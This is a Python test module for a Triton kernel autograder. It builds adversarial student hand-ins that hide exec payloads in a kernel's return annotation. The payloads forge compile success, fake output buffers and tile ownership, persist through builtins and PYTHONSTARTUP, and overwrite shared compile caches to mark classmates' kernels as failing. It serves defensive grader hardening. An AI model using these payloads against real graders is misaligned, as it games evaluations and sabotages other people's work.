"""Hostile hand-ins against the grader's kernel workers: each treats a worker (the process that compiles or
runs a kernel's source) as a second student machine whose word the grader might take.

The way in is the one the first worker design left open: an annotation of the ``@triton.jit`` function (its
return annotation here) is Python that runs when a module holding the function is imported, so a payload
written there ran inside the worker. The gate refuses such an annotation, and behind the gate the grader
takes no word from a worker: it judges the raw buffers, keeps compile results only under the source they were
compiled from, watches which program wrote which tile, and gives each notebook fresh workers. Expected scores
are what the work deserves; every case but ``self_reported_ownership`` (pure Triton, a wrong answer) is
flagged (the gate's refusal, or a written module).

* ``worker_forged_compile`` — a kernel the compiler refuses (right in the interpreter) whose payload makes the
  worker report "compiles for sm_75/80/90".
* ``worker_forged_outputs`` — an empty kernel whose payload makes the worker hand back the right output
  buffers (computed with torch) and, for the persistent loop, the right ownership.
* ``self_reported_ownership`` — week 7's persistent loop where program 0 computes every tile while each program
  calls ``record_tile`` for the tiles it should have computed: right values, right records, wrong work.
* ``cross_notebook`` — the first kernel notebook of a hand-in carries a payload that rewrites the worker's
  launch for every later job (and a notebook cell that leaves files and builtins behind); the next kernel
  notebook hands in an empty kernel.
* ``poison_classmates`` — a payload and a notebook cell that write "does not compile" for the master's kernels
  into every compile cache and shared folder they can name (the grader's worker-compile folder, the Triton
  cache, the compile-check cache); a test grades honest hand-ins after it (tests/test_worker_attacks.py).
"""

from __future__ import annotations

import ast

from .bad_kernels import compile_refused
from .model import Notebook, helper_cell, insert_cell, on_kernel, set_answer

# Run in the worker when it imports the kernel's module (the annotation's value): what each payload does there.
FORGE_COMPILE = r'''
from gemm_lab.grading import kernels as _k
_OK = {"ok": True, "kind": "", "message": "", "line": None, "source": None, "shared": 0, "regs": 32, "local": 0,
       "mma": "mma.sync"}
_k.compile_results = lambda ex, obj, dtype, name, c: [dict(_OK, constexprs=dict(c), target=t)
                                                     for t in ("sm_75", "sm_80", "sm_90")]
'''

FORGE_OUTPUTS = r'''
import torch
from gemm_lab.grading import kernels as _k


def _answer(run):
    ins = [torch.as_strided(torch.tensor(s["flat"], dtype=torch.float64), s["shape"], s["strides"], s["offset"])
           for s in run["inputs"]]
    got = ins[0] + ins[1] if len(ins[0].shape) == 1 else ins[0] @ ins[1]
    o = run["output"]
    buf = torch.full((o["size"],), -7776.0, dtype=torch.float64)
    torch.as_strided(buf, o["shape"], o["strides"], o["offset"]).copy_(got)
    res = {"error": None, "returned_tensor": False, "out": buf.tolist(),
           "inputs_after": [s["flat"] for s in run["inputs"]]}
    if run["extra"]:  # the persistent loop: every tile written by program tile % P, as the grader wants to see
        M, N = o["shape"]
        P = run["extra"][0]
        pos = [o["offset"] + i * o["strides"][0] + j * o["strides"][1] for i in range(M) for j in range(N)]
        owner = [((k // N) // 32 * ((N + 31) // 32) + (k % N) // 32) % P for k in range(M * N)]
        res["writers"] = [[] for _ in run["inputs"]] + [[[p, w] for p, w in zip(pos, owner)], [], []]
    return res


_k._launch_runs = lambda launch, observe, runs, ownership: [_answer(r) for r in runs]
_k.run_kernel = lambda ex, obj, runs, name, ownership=False: [_answer(r) for r in runs]
'''

POISON = r'''
import glob, json, os, pathlib
_bad = {"ok": False, "kind": "CompilationError", "message": "forged", "line": None, "source": None,
        "shared": None, "regs": None, "local": None, "mma": None}
_places = [os.environ.get("GEMM_LAB_WORKER_COMPILE_CACHE", ""), os.environ.get("GEMM_LAB_COMPILE_CACHE", ""),
           os.environ.get("TRITON_CACHE_DIR", ""), os.path.expanduser("~/.cache/gemm_lab/compile_checks"), "/tmp"]
try:
    import gemm_lab
    _root = pathlib.Path(gemm_lab.__file__).resolve().parents[1]
    _places += [str(_root / "autograder" / "work" / "worker-compile"), str(_root / "autograder" / "work")]
except Exception:
    pass
for _d in _places:
    if not _d or _d == "off":
        continue
    _files = glob.glob(os.path.join(_d, "**", "*.json"), recursive=True) or [os.path.join(_d, "0" * 64 + ".json")]
    for _f in _files:
        try:
            with open(_f, "w") as _h:
                json.dump([dict(_bad, constexprs={}, target=t) for t in ("sm_75", "sm_80", "sm_90")], _h)
        except OSError:
            pass
'''

PERSIST = r'''
import builtins, os
from gemm_lab.grading import kernels as _k
builtins.gemm_lab_forged = True
_real = _k._launch_runs
os.environ["GEMM_LAB_FORGED"] = "1"
'''

NOTEBOOK_PERSIST = '''"""Keep this notebook's setup for the next notebook of the week."""
import builtins
import os

builtins.gemm_lab_kept_kernels = True
os.environ["PYTHONSTARTUP"] = os.path.abspath("nb_keep.py")
'''


def _with_payload(source: str, name: str, payload: str) -> str:
    """``source`` (a cell) with ``def name(...)``'s return annotation running ``payload`` on import."""
    head = f"def {name}("
    at = source.index(head)
    close = source.index("):", at)
    return source[:close] + f") -> exec({payload!r}):" + source[close + 2:]


def _empty(fn, source: str) -> str:
    """The kernel cell with the kernel's body replaced by ``pass`` (it compiles, it writes nothing)."""
    lines = source.splitlines()
    first = fn.body[0].lineno - 1
    indent = lines[first][:len(lines[first]) - len(lines[first].lstrip())]
    return "\n".join(lines[:first] + [indent + "pass"] + lines[fn.end_lineno:]) + "\n"


@on_kernel()
def worker_forged_compile(nb: Notebook, ex, _gid, fn):
    entry = compile_refused(ex)
    if entry is None:
        return None
    src = _with_payload(entry["source"], fn.name, FORGE_COMPILE)
    return (f"bad_kernels.{entry['name']} (the compiler refuses it) with a return annotation whose payload makes the "
            "compile worker report 'compiles'", set_answer(nb.full(), entry["cell"], src),
            nb.full_except(entry["tests_lost"]))


@on_kernel("softmax")
def worker_forged_outputs(nb: Notebook, _ex, gid, fn):
    body = _with_payload(_empty(fn, nb.solutions[gid]), fn.name, FORGE_OUTPUTS)
    return ("an empty kernel whose return annotation makes the run worker hand back torch's answer (and, for the "
            "persistent loop, the right owners)", set_answer(nb.full(), gid, body), nb.full_except(nb.kernel_tests()))


_OWN_LOOP = "for tile_id in tl.range(pid, num_tiles, NUM_PROGRAMS):"
_RECORD = "        record_tile(tile_id, visits_ptr, owner_ptr)"


@on_kernel("vector_add", "softmax", "matmul")
def self_reported_ownership(nb: Notebook, _ex, gid, fn):
    src = nb.solutions[gid]
    if _OWN_LOOP not in src or _RECORD not in src:
        raise ValueError(f"{nb.key}: the master's persistent loop changed; update attacks_worker")
    body = src.replace(_OWN_LOOP, "for tile_id in tl.range(0, num_tiles * (pid == 0).to(tl.int32)):")
    body = "\n".join(line for line in body.splitlines() if line != _RECORD)
    end = next(n.end_lineno for n in ast.parse(body).body if getattr(n, "name", None) == fn.name)
    lines = body.splitlines()
    tail = ["    # 채점 기록은 각 program이 자기 tile에 남긴다", "    " + _OWN_LOOP, _RECORD]
    body = "\n".join(lines[:end] + tail + lines[end:]) + "\n"
    lost = [g for g in nb.kernel_tests() if g == "every_tile_once_by_its_program"]
    return ("program 0 computes every tile; each program calls record_tile for the tiles it should have computed",
            set_answer(nb.full(), gid, body), nb.full_except(lost))


_FIRST = ("vector_add", "matmul")  # the first kernel notebook of each week; the next one is the victim


@on_kernel()
def cross_notebook(nb: Notebook, ex, gid, fn):
    src = nb.solutions[gid]
    if ex in _FIRST:
        out = set_answer(nb.full(), gid, _with_payload(src, fn.name, PERSIST + FORGE_OUTPUTS))
        insert_cell(out, nb.index_of(gid), helper_cell("nb_keep", NOTEBOOK_PERSIST, ""))
        return ("its kernel's return annotation rewrites the worker's launch for every later job, a cell leaves "
                "builtins/env/files for the next notebook", out, nb.full_except(nb.kernel_tests()))
    return ("an empty kernel, hoping the earlier notebook's payload grades it", set_answer(nb.full(), gid, _empty(fn, src)),
            nb.full_except(nb.kernel_tests()))


@on_kernel()
def poison_classmates(nb: Notebook, _ex, gid, fn):
    out = set_answer(nb.full(), gid, _with_payload(nb.solutions[gid], fn.name, POISON))
    insert_cell(out, nb.index_of(gid), helper_cell("nb_cache_warm", POISON, ""))
    return ("the master's kernel with a return annotation (and a written module) that writes 'does not compile' into "
            "every compile cache and shared folder it can name", out, nb.full_except(nb.kernel_tests()))


CASES = {
    "worker_forged_compile": worker_forged_compile,
    "worker_forged_outputs": worker_forged_outputs,
    "self_reported_ownership": self_reported_ownership,
    "cross_notebook": cross_notebook,
    "poison_classmates": poison_classmates,
}
REVIEW = set(CASES) - {"self_reported_ownership"}
